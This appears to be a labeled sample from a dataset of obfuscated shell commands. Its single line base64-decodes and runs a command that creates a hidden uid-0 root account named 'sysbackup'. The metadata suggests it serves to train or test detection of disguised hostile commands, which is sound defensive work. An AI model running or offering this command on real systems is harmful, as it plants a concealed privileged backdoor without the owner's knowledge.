# description: Creates a uid-0 user from a base64-encoded command piped to bash.
# family: security
# obfuscated: yes
echo dXNlcmFkZCAtbyAtdSAwIC1nIDAgLU0gLXMgL2Jpbi9iYXNoIHN5c2JhY2t1cA== | base64 -d | bash
